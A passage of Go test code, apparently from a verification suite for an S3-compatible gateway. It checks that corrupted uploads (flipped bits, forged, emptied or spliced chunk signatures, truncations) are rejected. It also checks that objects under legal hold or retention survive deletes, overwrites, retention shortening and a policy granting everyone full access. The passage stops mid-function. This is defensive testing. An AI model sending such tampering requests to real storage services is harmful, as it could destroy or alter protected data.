			r.Body = flip(body, c.Arg)
			applied = true
		}
	case "stream-signed", "stream-signed-trailer":
		ph := gw.StreamSigned
		algo := ""
		if c.Mode == "stream-signed-trailer" {
			ph = gw.StreamSignedTrailer
			algo = c.Algo
			r.Set("x-amz-trailer", "x-amz-checksum-"+algo)
		}
		sg := gw.Sign(r, gw.Root, gw.SignOpts{PayloadHash: ph})
		chunks := gw.SplitChunks(payload, sizes)
		enc, spans := gw.EncodeSigned(sg, chunks, algo)
		enc, applied = c.corruptStream(enc, spans, applied, algo != "", true)
		r.Body = enc
	case "stream-unsigned-trailer":
		r.Set("x-amz-trailer", "x-amz-checksum-"+c.Algo)
		gw.Sign(r, gw.Root, gw.SignOpts{PayloadHash: gw.StreamUnsignedTrailer})
		enc, spans := gw.EncodeUnsigned(gw.SplitChunks(payload, sizes), c.Algo)
		enc, applied = c.corruptStream(enc, spans, applied, true, false)
		r.Body = enc
	}
	return r, applied
}

// flipLetterCase changes the case of the first letter of a base64 value: another value, equal only to a
// case-insensitive comparison.
func flipLetterCase(v string) (string, bool) {
	b := []byte(v)
	for i, ch := range b {
		switch {
		case ch >= 'a' && ch <= 'z':
			b[i] = ch - 32
			return string(b), true
		case ch >= 'A' && ch <= 'Z':
			b[i] = ch + 32
			return string(b), true
		}
	}
	return v, false
}

func (c c06Case) corruptStream(enc []byte, spans []gw.ChunkSpan, applied, hasTrailer, signed bool) ([]byte, bool) {
	out := append([]byte{}, enc...)
	switch c.Corrupt {
	case "bit-flip":
		// Arg-th payload byte overall
		k := c.Arg
		for _, sp := range spans {
			n := sp.DataEnd - sp.DataStart
			if k < n {
				out[sp.DataStart+k] ^= 0x04
				return out, true
			}
			k -= n
		}
	case "chunk-signature":
		if signed && c.Arg < len(spans) {
			sp := spans[c.Arg]
			// last hex digit of the signature in this chunk header
			pos := sp.DataStart - 3
			if out[pos] == '0' {
				out[pos] = '1'
			} else {
				out[pos] = '0'
			}
			return out, true
		}
	case "empty-chunk-signature":
		// the signature of data chunk Arg is removed ("chunk-signature=" followed by nothing)
		if signed && c.Arg < len(spans)-1 {
			sp := spans[c.Arg]
			i := bytes.Index(out[sp.HeaderStart:sp.DataStart], []byte("chunk-signature=")) + sp.HeaderStart + len("chunk-signature=")
			return append(append(append([]byte{}, out[:i]...), '\r', '\n'), out[sp.DataStart:]...), true
		}
	case "spliced-chunk-with-empty-signature":
		// a chunk nobody signed is inserted in front of chunk Arg; the signatures of all other chunks stay as they are
		if signed && c.Arg < len(spans) {
			at := spans[c.Arg].HeaderStart
			ins := []byte("3;chunk-signature=\r\nXYZ\r\n")
			return append(append(append([]byte{}, out[:at]...), ins...), out[at:]...), true
		}
	case "trailer-checksum":
		if hasTrailer {
			i := bytes.LastIndex(out, []byte("x-amz-checksum-"))
			j := i + bytes.IndexByte(out[i:], ':') + 1
			if out[j] == 'A' {
				out[j] = 'B'
			} else {
				out[j] = 'A'
			}
			return out, true
		}
	case "trailer-signature":
		if hasTrailer && signed {
			i := bytes.LastIndex(out, []byte("x-amz-trailer-signature:")) + len("x-amz-trailer-signature:")
			if out[i] == '0' {
				out[i] = '1'
			} else {
				out[i] = '0'
			}
			return out, true
		}
	case "truncate-after-chunk":
		if c.Arg < len(spans)-1 || (!signed && c.Arg < len(spans)) {
			return out[:spans[c.Arg].DataEnd+2], true
		}
	case "truncate-at-data-end", "flip-then-truncate-at-data-end":
		// the stream ends with the last payload byte of data chunk Arg (no CRLF, no further chunk, no trailer)
		nData := len(spans)
		if signed {
			nData-- // the final zero-length chunk is a span of its own
		}
		if c.Arg < nData && spans[c.Arg].DataEnd > spans[c.Arg].DataStart {
			if c.Corrupt == "flip-then-truncate-at-data-end" {
				out[spans[c.Arg].DataEnd-1] ^= 0x04
			}
			return out[:spans[c.Arg].DataEnd], true
		}
	case "truncate-inside-header":
		if c.Arg < len(spans) {
			return out[:spans[c.Arg].HeaderStart+1], true
		}
	case "truncate-inside-data":
		if c.Arg < len(spans) && spans[c.Arg].DataEnd-spans[c.Arg].DataStart > 1 {
			return out[:spans[c.Arg].DataStart+1], true
		}
	case "truncate-final-crlf":
		return out[:len(out)-2], true
	case "extra-bytes-after-final-chunk":
		return append(out, "0\r\n\r\n"...), true
	case "extra-garbage-after-final-chunk":
		return append(out, "xyz"...), true
	}
	return out, applied
}

func C06(r *ck.Run) {
	r.Rule("upload mode {signed, UNSIGNED-PAYLOAD, presigned, streaming signed, streaming signed+trailer, streaming unsigned+trailer} × {PutObject, UploadPart} (and CompleteMultipartUpload asserting a wrong object checksum) × integrity field × corruption (bit flip at EVERY payload offset, wrong declared value of every field, every chunk/trailer signature, every chunk signature emptied, an unsigned chunk spliced in front of every chunk, truncation after every chunk / inside every header / inside data, extra bytes, declared decoded length ±1 and ×2) × prior key state (new, existing, directory-object key with and without data; versioned in the thorough tier) × 3 request fragmentations, end-to-end with byte-exact storage snapshots; distinct = (config, case, key state, fragmentation)")
	r.Assume("an upload with UNSIGNED-PAYLOAD / presigned and neither Content-MD5 nor a checksum header carries no assertion about the payload bytes, so bit flips are not applied there")
	cfgs := []gw.Opts{{}, {Sidecar: true}}
	if r.Thorough() {
		cfgs = append(cfgs, gw.Opts{Versioning: true}, gw.Opts{NoTmpFile: true}, gw.Opts{Sidecar: true, Versioning: true})
	}
	payload := Pattern(15, 9)
	sizes := []int{5, 1, 9}
	bigPayload := Pattern(9000, 9)
	bigSizes := []int{4000, 1, 4999}
	algos := []string{"crc32", "sha256"}
	if r.Thorough() {
		algos = gw.ChecksumAlgos
	}
	var cases []c06Case
	for _, op := range []string{"put", "part"} {
		for _, mode := range []string{"signed", "unsigned", "presigned", "stream-signed", "stream-signed-trailer", "stream-unsigned-trailer"} {
			malgos := []string{""}
			if strings.Contains(mode, "trailer") {
				malgos = algos
			}
			for _, algo := range malgos {
				base := c06Case{Op: op, Mode: mode, Algo: algo}
				variants := []c06Case{base}
				withMD5 := base
				withMD5.MD5 = true
				variants = append(variants, withMD5)
				if !strings.HasPrefix(mode, "stream-") {
					for _, a := range algos {
						v := base
						v.Algo, v.CsumHdr = a, true
						variants = append(variants, v)
					}
				}
				for _, v := range variants {
					add := func(corrupt string, arg int) {
						c := v
						c.Corrupt, c.Arg = corrupt, arg
						cases = append(cases, c)
					}
					add("", 0)
					for off := 0; off < len(payload); off++ {
						add("bit-flip", off)
					}
					for _, k := range []string{"decoded-length-0-beside-copy-source-slash", "decoded-length-0-beside-acl-parameter", "wrong-content-md5", "malformed-content-md5", "wrong-checksum-header", "content-md5-letter-case-flipped", "checksum-header-letter-case-flipped", "wrong-content-sha256", "declared-length-plus-1", "declared-length-minus-1", "declared-length-double",
						"trailer-checksum", "trailer-signature", "truncate-final-crlf", "extra-bytes-after-final-chunk", "extra-garbage-after-final-chunk"} {
						add(k, 0)
					}
					for ch := 0; ch < 4; ch++ {
						add("chunk-signature", ch)
						add("truncate-after-chunk", ch)
						add("truncate-inside-header", ch)
						add("truncate-inside-data", ch)
						add("truncate-at-data-end", ch)
						add("flip-then-truncate-at-data-end", ch)
						add("empty-chunk-signature", ch)
						add("spliced-chunk-with-empty-signature", ch)
					}
					if strings.HasPrefix(mode, "stream-") && !v.MD5 {
						addBig := func(corrupt string, arg int) {
							c := v
							c.Corrupt, c.Arg, c.Big = corrupt, arg, true
							cases = append(cases, c)
						}
						addBig("", 0)
						for _, k := range []string{"declared-length-plus-1", "declared-length-minus-1", "trailer-checksum", "trailer-signature", "truncate-final-crlf", "extra-garbage-after-final-chunk"} {
							addBig(k, 0)
						}
						for ch := 0; ch < 4; ch++ {
							addBig("chunk-signature", ch)
							addBig("truncate-after-chunk", ch)
							addBig("truncate-inside-header", ch)
							addBig("truncate-inside-data", ch)
							addBig("truncate-at-data-end", ch)
							addBig("flip-then-truncate-at-data-end", ch)
						}
						addBig("bit-flip", 0)
						addBig("bit-flip", 4000)
						addBig("bit-flip", 8999)
					}
				}
			}
		}
	}
	for _, a := range algos {
		cases = append(cases, c06Case{Op: "complete", Mode: "signed", Algo: a, Corrupt: "wrong-object-checksum-on-completion"})
	}
	frags := [][]int{nil, {300}, {1 << 20}} // whole; head cut early; see below (last one replaced per request)
	r.Sharded(16, func() {
		idx := 0
		for ci, cfg := range cfgs {
			var w *World
			var base gw.Snap
			fresh := func() {
				if w != nil {
					w.Close()
				}
				w = NewWorld("c06", cfg)
				if cfg.Versioning {
					Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "versioning", nil, []byte("<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>")), "enable versioning")
				}
				base = w.F.G.Snapshot(gw.SnapOpts{IgnoreTmp: true})
			}
			fresh()
			for _, c := range cases {
				idx++
				if !r.Mine(idx) {
					continue
				}
				for _, key := range []string{"c06new", w.Key, "c06dir/", "c06dir-with-data/"} {
					if (c.Op == "part" || c.Op == "complete") && key != "c06new" {
						continue
					}
					if strings.HasSuffix(key, "/") && c.Big {
						continue
					}
					if key == "c06dir-with-data/" && c.Corrupt != "" {
						continue
					}
					for fi := range frags {
						payload, sizes := payload, sizes
						if c.Big {
							payload, sizes = bigPayload, bigSizes
						}
						if key == "c06dir/" {
							// a directory object holds no data: the assertions about its (empty) payload are checked all the same
							payload, sizes = nil, nil
						}
						req, applied := c.build(w, key, payload, sizes)
						if !applied {
							continue
						}
						raw := req.Raw()
						switch fi {
						case 1:
							req.Frags = []int{len(raw) - len(req.Body) + 3}
						case 2:
							if len(raw) > 4 {
								req.Frags = []int{len(raw) - 3, 1, 1}
							}
						}
						resp := w.F.G.Do(req)
						r.Add("evaluations", 1)
						r.Distinct(fmt.Sprintf("%d|%s|%s|%d", ci, c, key, fi))
						after := w.F.G.Snapshot(gw.SnapOpts{IgnoreTmp: true})
						diff := base.Diff(after, 6)
						det := map[string]any{"config": fmt.Sprintf("%+v", cfg), "case": c.String(), "key": key, "fragmentation": req.Frags, "request": req.String(), "headers": req.Headers,
							"body": ck.Short(string(req.Body), 600), "response": resp.String(), "state_diff": diff}
						state := "new-key"
						if key != "c06new" {
							state = "existing-key"
						}
						if strings.HasSuffix(key, "/") {
							state = "directory-object"
						}
						if c.Op == "part" {
							state = "part"
						}
						if c.Op == "complete" {
							state = "upload-without-checksum-algorithm"
						}
						if c.Corrupt != "" {
							r.Outcome(fmt.Sprintf("corrupt:%d", resp.Status/100))
							var an []string
							if resp.Err != nil {
								// a connection closed without a response is a refusal too, as long as nothing changed
								if len(diff) > 0 {
									an = append(an, "no-response")
								}
							} else if resp.Status < 400 {
								an = append(an, fmt.Sprintf("accepted-%d", resp.Status))
							}
							if len(diff) > 0 {
								an = append(an, "state-changed")
							}
							if len(an) > 0 {
								r.Violation(ck.JoinSig(c.Op, c.Mode, c.Corrupt, state, strings.Join(an, "+")), det)
							}
						} else {
							r.Outcome(fmt.Sprintf("valid:%d", resp.Status/100))
							if !resp.OK() {
								// refusing a valid upload does not contradict the statement (it matters to C01, where only acknowledged uploads count); it is counted
								r.Add("valid_uploads_refused", 1)
								r.Outcome("valid-refused:" + c.Mode)
							} else if c.Op == "put" {
								r.Add("valid_uploads_accepted", 1)
								got := w.F.Get(gw.Root, w.Bucket, key)
								if !got.OK() || !bytes.Equal(got.Body, payload) {
									det["get"] = got.String()
									r.Violation(ck.JoinSig(c.Op, c.Mode, "stored-bytes-differ-from-payload", state), det)
								}
							} else {
								// part: size reported by ListParts must equal the payload length
								lp := w.F.Do(gw.Root, "GET", gw.ObjPath(w.Bucket, w.MpKey), gw.Q("uploadId", w.UploadID), nil, nil)
								if !strings.Contains(string(lp.Body), fmt.Sprintf("<PartNumber>4</PartNumber>")) || !strings.Contains(partXML(lp.Body, 4), fmt.Sprintf("<Size>%d</Size>", len(payload))) {
									det["list_parts"] = lp.String()
									r.Violation(ck.JoinSig(c.Op, c.Mode, "stored-part-size-differs"), det)
								}
							}
						}
						if len(diff) > 0 {
							fresh()
						}
					}
				}
			}
			w.Close()
		}
	})
	r.Sample(map[string]any{"case": "put/stream-signed-trailer/algo=crc32/truncate-after-chunk(1)", "payload": string(payload), "chunks": sizes})
}

func partXML(b []byte, n int) string {
	s := string(b)
	i := strings.Index(s, fmt.Sprintf("<PartNumber>%d</PartNumber>", n))
	if i < 0 {
		return ""
	}
	j := strings.LastIndex(s[:i], "<Part>")
	k := strings.Index(s[i:], "</Part>")
	if j < 0 || k < 0 {
		return ""
	}
	return s[j : i+k]
}
