package checks

import (
	"bytes"
	"fmt"
	"strings"
	"time"

	"verif/ck"
	"verif/gw"
)

func init() { Registry["C10"] = C10 }

const (
	c10Bucket = "lockb"
	c10Key    = "records/meta" // below an explicit directory object; the last element collides with the sidecar store's own directory name
)

var c10Body = []byte("PROTECTED-PAYLOAD-c10 0123456789")

type c10State struct {
	Name string
	// setup after the bucket exists and before / after the object is put
	Before func(f *Fx)
	After  func(f *Fx, vid string)
	Hold   bool
	Mode   string // "", COMPLIANCE, GOVERNANCE
	Deflt  bool   // protection comes from the bucket default rule
}

func c10Far() string {
	return time.Now().Add(10 * 365 * 24 * time.Hour).UTC().Format("2006-01-02T15:04:05Z")
}

func c10States() []c10State {
	vq := func(vid string) string {
		if vid == "" {
			return ""
		}
		return "&" + gw.Q("versionId", vid)
	}
	return []c10State{
		{Name: "legal-hold", Hold: true, After: func(f *Fx, vid string) {
			Must(f.Do(gw.Root, "PUT", gw.ObjPath(c10Bucket, c10Key), "legal-hold"+vq(vid), nil, []byte("<LegalHold><Status>ON</Status></LegalHold>")), "legal hold on")
		}},
		{Name: "compliance", Mode: "COMPLIANCE", After: func(f *Fx, vid string) {
			Must(f.Do(gw.Root, "PUT", gw.ObjPath(c10Bucket, c10Key), "retention"+vq(vid), nil, []byte("<Retention><Mode>COMPLIANCE</Mode><RetainUntilDate>"+c10Far()+"</RetainUntilDate></Retention>")), "retention compliance")
		}},
		{Name: "governance", Mode: "GOVERNANCE", After: func(f *Fx, vid string) {
			Must(f.Do(gw.Root, "PUT", gw.ObjPath(c10Bucket, c10Key), "retention"+vq(vid), nil, []byte("<Retention><Mode>GOVERNANCE</Mode><RetainUntilDate>"+c10Far()+"</RetainUntilDate></Retention>")), "retention governance")
		}},
		{Name: "default-compliance", Mode: "COMPLIANCE", Deflt: true, Before: func(f *Fx) {
			Must(f.Do(gw.Root, "PUT", "/"+c10Bucket, "object-lock", nil, []byte("<ObjectLockConfiguration><ObjectLockEnabled>Enabled</ObjectLockEnabled><Rule><DefaultRetention><Mode>COMPLIANCE</Mode><Days>1</Days></DefaultRetention></Rule></ObjectLockConfiguration>")), "default compliance")
		}},
		{Name: "default-governance", Mode: "GOVERNANCE", Deflt: true, Before: func(f *Fx) {
			Must(f.Do(gw.Root, "PUT", "/"+c10Bucket, "object-lock", nil, []byte("<ObjectLockConfiguration><ObjectLockEnabled>Enabled</ObjectLockEnabled><Rule><DefaultRetention><Mode>GOVERNANCE</Mode><Days>1</Days></DefaultRetention></Rule></ObjectLockConfiguration>")), "default governance")
		}},
	}
}

type c10Caller struct {
	Name   string
	Cred   gw.Creds
	Bypass bool // holds s3:BypassGovernanceRetention by policy
	Admin  bool
}

func c10Callers() []c10Caller {
	return []c10Caller{
		{"root", gw.Root, false, true},
		{"admin", cAdm, false, true},
		{"owner", cUsr1, false, false},
		{"user-with-bypass-permission", cUsr2, true, false},
		{"user-without-bypass-permission", cUsr3, false, false},
		// may bypass governance retention on other keys of the bucket, not on the protected one
		{"user-with-bypass-permission-on-other-keys-only", cUp, false, false},
	}
}

type c10Op struct {
	Name string
	// Build returns the request; vid is the protected version id ("" when unversioned)
	Build func(vid string, mpu map[string]string) *gw.Req
	// effect class for the model
	Kind string // overwrite delete-key delete-version delete-bucket retention hold lockconfig versioning policy abort
	Mode string // for retention ops: target mode
	Date string // "shorter" | "longer" | ""
}

func c10Ops() []c10Op {
	ret := func(mode, date string) []byte {
		return []byte("<Retention><Mode>" + mode + "</Mode><RetainUntilDate>" + date + "</RetainUntilDate></Retention>")
	}
	shorter := func() string { return time.Now().Add(2 * time.Hour).UTC().Format("2006-01-02T15:04:05Z") }
	longer := func() string { return time.Now().Add(20 * 365 * 24 * time.Hour).UTC().Format("2006-01-02T15:04:05Z") }
	vq := func(q, vid string) string {
		if vid == "" {
			return q
		}
		if q == "" {
			return gw.Q("versionId", vid)
		}
		return q + "&" + gw.Q("versionId", vid)
	}
	pk := gw.ObjPath(c10Bucket, c10Key)
	return []c10Op{
		{Name: "PutObject", Kind: "overwrite", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", pk, "", nil, []byte("overwriting data"))
		}},
		{Name: "CopyObject-onto", Kind: "overwrite", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", pk, "", H("x-amz-copy-source", c10Bucket+"/other"), nil)
		}},
		{Name: "CompleteMultipartUpload-onto", Kind: "overwrite", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("POST", pk, gw.Q("uploadId", m["upload"]), nil, []byte("<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>"+m["etag"]+"</ETag></Part></CompleteMultipartUpload>"))
		}},
		{Name: "DeleteObject-by-key", Kind: "delete-key", Build: func(vid string, m map[string]string) *gw.Req { return NewReq("DELETE", pk, "", nil, nil) }},
		{Name: "DeleteObject-by-version", Kind: "delete-version", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("DELETE", pk, vq("", vid), nil, nil)
		}},
		{Name: "DeleteObjects-by-key", Kind: "delete-key", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("POST", "/"+c10Bucket, "delete", nil, []byte("<Delete><Object><Key>"+c10Key+"</Key></Object></Delete>"))
		}},
		{Name: "DeleteObjects-by-version", Kind: "delete-version", Build: func(vid string, m map[string]string) *gw.Req {
			v := ""
			if vid != "" {
				v = "<VersionId>" + vid + "</VersionId>"
			}
			return NewReq("POST", "/"+c10Bucket, "delete", nil, []byte("<Delete><Object><Key>"+c10Key+"</Key>"+v+"</Object></Delete>"))
		}},
		{Name: "DeleteObjects-another-locked-key-first", Kind: "delete-version", Build: func(vid string, m map[string]string) *gw.Req {
			v, sv := "", ""
			if vid != "" {
				v = "<VersionId>" + vid + "</VersionId>"
			}
			if m["scratchvid"] != "" {
				sv = "<VersionId>" + m["scratchvid"] + "</VersionId>"
			}
			return NewReq("POST", "/"+c10Bucket, "delete", nil, []byte("<Delete><Object><Key>scratch/tmp</Key>"+sv+"</Object><Object><Key>"+c10Key+"</Key>"+v+"</Object></Delete>"))
		}},
		{Name: "DeleteObject-parent-directory-object", Kind: "other", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("DELETE", "/"+c10Bucket+"/records/", "", nil, nil)
		}},
		{Name: "DeleteBucket", Kind: "delete-bucket", Build: func(vid string, m map[string]string) *gw.Req { return NewReq("DELETE", "/"+c10Bucket, "", nil, nil) }},
		{Name: "PutObjectRetention-shorten-governance", Kind: "retention", Mode: "GOVERNANCE", Date: "shorter", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", pk, vq("retention", vid), nil, ret("GOVERNANCE", shorter()))
		}},
		{Name: "PutObjectRetention-shorten-compliance", Kind: "retention", Mode: "COMPLIANCE", Date: "shorter", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", pk, vq("retention", vid), nil, ret("COMPLIANCE", shorter()))
		}},
		{Name: "PutObjectRetention-extend-governance", Kind: "retention", Mode: "GOVERNANCE", Date: "longer", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", pk, vq("retention", vid), nil, ret("GOVERNANCE", longer()))
		}},
		{Name: "PutObjectRetention-by-key-shorten-governance", Kind: "retention", Mode: "GOVERNANCE", Date: "shorter", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", pk, "retention", nil, ret("GOVERNANCE", shorter()))
		}},
		{Name: "PutObjectLegalHold-OFF", Kind: "hold", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", pk, vq("legal-hold", vid), nil, []byte("<LegalHold><Status>OFF</Status></LegalHold>"))
		}},
		{Name: "PutObjectLockConfiguration-drop-default", Kind: "lockconfig", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", "/"+c10Bucket, "object-lock", nil, []byte("<ObjectLockConfiguration><ObjectLockEnabled>Enabled</ObjectLockEnabled></ObjectLockConfiguration>"))
		}},
		{Name: "PutObjectLockConfiguration-without-ObjectLockEnabled", Kind: "lockconfig", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", "/"+c10Bucket, "object-lock", nil, []byte("<ObjectLockConfiguration></ObjectLockConfiguration>"))
		}},
		{Name: "PutBucketVersioning-Suspended", Kind: "versioning", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", "/"+c10Bucket, "versioning", nil, []byte("<VersioningConfiguration><Status>Suspended</Status></VersioningConfiguration>"))
		}},
		{Name: "PutBucketVersioning-without-Status", Kind: "versioning", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", "/"+c10Bucket, "versioning", nil, []byte("<VersioningConfiguration><MfaDelete>Disabled</MfaDelete></VersioningConfiguration>"))
		}},
		{Name: "PutBucketPolicy-grant-bypass-to-everyone", Kind: "policy", Build: func(vid string, m map[string]string) *gw.Req {
			return NewReq("PUT", "/"+c10Bucket, "policy", nil, []byte(fmt.Sprintf(`{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:*","Resource":["arn:aws:s3:::%s","arn:aws:s3:::%s/*"]}]}`, c10Bucket, c10Bucket)))
		}},
	}
}

type c10Sym struct {
	Op     int
	Caller int
	Bypass bool
}

// c10World builds the fixture for one protected state; returns the protected version id.
func c10Setup(cfg gw.Opts, stt c10State) (*World, string, map[string]string) {
	w := NewWorld("c10", cfg)
	f := w.F
	// history: the name was used before by a bucket without object lock (written to, queried, emptied, deleted)
	Must(f.CreateBucket(gw.Root, c10Bucket), "create plain bucket")
	Must(f.Put(gw.Root, c10Bucket, "old", []byte("x")), "put into plain bucket")
	f.Do(gw.Root, "GET", "/"+c10Bucket, "object-lock", nil, nil)
	Must(f.Delete(gw.Root, c10Bucket, "old"), "empty plain bucket")
	Must(f.Do(gw.Root, "DELETE", "/"+c10Bucket, "", nil, nil), "delete plain bucket")
	Must(f.CreateBucket(gw.Root, c10Bucket, "x-amz-bucket-object-lock-enabled", "true"), "create lock bucket")
	Must(f.Do(gw.Root, "PATCH", "/change-bucket-owner", gw.Q("bucket", c10Bucket, "owner", "usr1"), nil, nil), "chown")
	pol := fmt.Sprintf(`{"Statement":[{"Effect":"Allow","Principal":["usr1","usr2","usr3","up1"],"Action":"s3:*","Resource":["arn:aws:s3:::%s","arn:aws:s3:::%s/*"]},{"Effect":"Deny","Principal":["usr1","usr3"],"Action":"s3:BypassGovernanceRetention","Resource":"arn:aws:s3:::%s/*"},{"Effect":"Deny","Principal":["up1"],"Action":"s3:BypassGovernanceRetention","Resource":"arn:aws:s3:::%s/%s"}]}`, c10Bucket, c10Bucket, c10Bucket, c10Bucket, c10Key)
	Must(f.Do(gw.Root, "PUT", "/"+c10Bucket, "policy", nil, []byte(pol)), "policy")
	if stt.Before != nil {
		stt.Before(f)
	}
	Must(f.Do(gw.Root, "PUT", "/"+c10Bucket+"/records/", "", nil, nil), "put directory object")
	resp := Must(f.Put(gw.Root, c10Bucket, c10Key, c10Body, "x-amz-meta-guard", "g1", "Content-Type", "text/protected"), "put protected")
	vid := resp.Header.Get("x-amz-version-id")
	Must(f.Put(gw.Root, c10Bucket, "other", []byte("copy source data")), "put other")
	// another object under governance retention, which some callers may bypass
	sresp := Must(f.Put(gw.Root, c10Bucket, "scratch/tmp", []byte("scratch data")), "put scratch")
	svid := sresp.Header.Get("x-amz-version-id")
	if !stt.Deflt {
		sq := "retention"
		if svid != "" {
			sq += "&" + gw.Q("versionId", svid)
		}
		Must(f.Do(gw.Root, "PUT", gw.ObjPath(c10Bucket, "scratch/tmp"), sq, nil, []byte("<Retention><Mode>GOVERNANCE</Mode><RetainUntilDate>"+c10Far()+"</RetainUntilDate></Retention>")), "scratch retention")
	}
	if stt.After != nil {
		stt.After(f, vid)
	}
	// an upload ready to be completed onto the protected key
	mp := Must(f.Do(gw.Root, "POST", gw.ObjPath(c10Bucket, c10Key), "uploads", nil, nil), "create mpu")
	up := xmlFieldS(mp.Body, "UploadId")
	pr := Must(f.Do(gw.Root, "PUT", gw.ObjPath(c10Bucket, c10Key), gw.Q("uploadId", up, "partNumber", "1"), nil, []byte("multipart replacement data")), "upload part")
	return w, vid, map[string]string{"upload": up, "etag": pr.Header.Get("ETag"), "scratchvid": svid}
}

// protected version still intact?
func c10Intact(f *Fx, vid string) (bool, string) {
	q := ""
	if vid != "" {
		q = gw.Q("versionId", vid)
	}
	resp := f.Do(gw.Root, "GET", gw.ObjPath(c10Bucket, c10Key), q, nil, nil)
	if !resp.OK() {
		return false, "GET " + fmtResp(resp)
	}
	if !bytes.Equal(resp.Body, c10Body) {
		return false, "GET returned other bytes"
	}
	if resp.Header.Get("x-amz-meta-guard") != "g1" || resp.Header.Get("Content-Type") != "text/protected" {
		return false, "GET returned other metadata"
	}
	return true, ""
}

func C10(r *ck.Run) {
	r.Rule("for every protected state (legal hold, COMPLIANCE +10y, GOVERNANCE +10y, bucket default COMPLIANCE, bucket default GOVERNANCE) × {lock bucket on a gateway with versioning directory, without, with sidecar metadata} (the bucket name was used before by a bucket without object lock; the protected key is records/meta below an explicit directory object records/): every program of potentially destructive requests — 18 operations (deleting the explicit directory object above the protected key, overwrite by PUT / copy / multipart completion, delete by key / by version / batch / batch that names another locked key first, bucket deletion, retention shorten / extend / downgrade by key and by version, legal hold off, dropping the bucket default rule, suspending versioning, a policy granting bypass to everyone) × 6 callers (root, admin, owner, user with, without, and with a bypass permission that covers other keys only) × bypass header on/off — of length 1 (all symbols) and length 2 (quick: reduced caller set; thorough: all symbols, plus length 3 reduced); after EVERY step the protected version is read back (by version id where versioned) and its lock attributes are compared with a reference model in which protection ends only through a legal-hold release or an authorised governance bypass; distinct = (configuration, state, program)")
	r.Assume("retention dates lie 10 years ahead (1 day for bucket defaults), so no date passes during a run; root and admin may or may not count as holders of the bypass permission (either is admitted); a bucket default retention protects the objects written under it for its period whatever happens to the rule later (S3 stamps it on the object)")
	cfgs := []gw.Opts{{Versioning: true}, {}, {Sidecar: true}}
	if r.Thorough() {
		cfgs = append(cfgs, gw.Opts{Sidecar: true, Versioning: true})
	}
	states := c10States()
	ops := c10Ops()
	callers := c10Callers()
	var all []c10Sym
	for oi := range ops {
		for ci := range callers {
			for _, b := range []bool{false, true} {
				all = append(all, c10Sym{oi, ci, b})
			}
		}
	}
	var reduced []c10Sym
	for _, s := range all {
		cn := callers[s.Caller].Name
		if (cn == "root" || cn == "user-with-bypass-permission" || cn == "user-without-bypass-permission") && s.Bypass {
			reduced = append(reduced, s)
		}
	}
	var programs [][]c10Sym
	for _, s := range all {
		programs = append(programs, []c10Sym{s})
	}
	second := reduced
	if r.Thorough() {
		// every caller, bypass header on
		second = nil
		for _, s := range all {
			if s.Bypass {
				second = append(second, s)
			}
		}
	}
	enabler := func(k string) bool {
		return k == "retention" || k == "hold" || k == "lockconfig" || k == "versioning" || k == "policy" || k == "other"
	}
	for _, a := range reduced {
		for _, b := range second {
			// quick tier: an operation that may weaken the protection followed by a destructive one
			if !r.Thorough() && !(enabler(ops[a.Op].Kind) && !enabler(ops[b.Op].Kind)) {
				continue
			}
			programs = append(programs, []c10Sym{a, b})
		}
	}
	if r.Thorough() {
		// length 3 over a small alphabet of weakening and destructive operations by the two plain users
		var tiny []c10Sym
		for _, s := range reduced {
			n, cn := ops[s.Op].Name, callers[s.Caller].Name
			if cn == "root" {
				continue
			}
			switch n {
			case "PutObjectRetention-shorten-governance", "PutObjectLegalHold-OFF", "PutObjectLockConfiguration-drop-default", "PutObjectLockConfiguration-without-ObjectLockEnabled", "PutBucketVersioning-Suspended", "PutBucketVersioning-without-Status",
				"PutBucketPolicy-grant-bypass-to-everyone", "DeleteObject-by-version", "PutObject", "DeleteObjects-by-key":
				tiny = append(tiny, s)
			}
		}
		for _, a := range tiny {
			for _, b := range tiny {
				for _, c := range tiny {
					if enabler(ops[c.Op].Kind) {
						continue
					}
					programs = append(programs, []c10Sym{a, b, c})
				}
			}
		}
	}
	r.Extra("programs_per_state", len(programs))
	r.Sharded(16, func() {
		idx := 0
		for ci, cfg := range cfgs {
			for _, stt := range states {
				var w *World
				var vid string
				var mpu map[string]string
				dirty := true
				for _, prog := range programs {
					idx++
					if !r.Mine(idx) {
						continue
					}
					if dirty {
						if w != nil {
							w.Close()
						}
						w, vid, mpu = c10Setup(cfg, stt)
						dirty = false
					}
					base := w.F.G.Snapshot(gw.SnapOpts{})
					// model of the protection
					hold, mode := stt.Hold, stt.Mode
					alive := true
					everyoneBypass := false
					ruleDropped := false
					currentIsP := true
					var steps []string
					for si, sym := range prog {
						op, cl := ops[sym.Op], callers[sym.Caller]
						req := op.Build(vid, mpu)
						if sym.Bypass {
							req.Set("x-amz-bypass-governance-retention", "true")
						}
						gw.Sign(req, cl.Cred, gw.SignOpts{})
						resp := w.F.G.Do(req)
						okResp := resp.OK()
						if strings.HasPrefix(op.Name, "DeleteObjects") && okResp && bytes.Contains(resp.Body, []byte("<Error>")) {
							okResp = false
						}
						steps = append(steps, fmt.Sprintf("%s by %s bypass-header=%v -> %s", op.Name, cl.Name, sym.Bypass, fmtResp(resp)))
						r.Add("evaluations", 1)
						// the statement ties a governance bypass to the caller's permission (root and admin: either way admitted)
						bypassOK := cl.Bypass || cl.Admin || everyoneBypass
						protectedBefore := hold || mode == "COMPLIANCE" || mode == "GOVERNANCE"
						an := ""
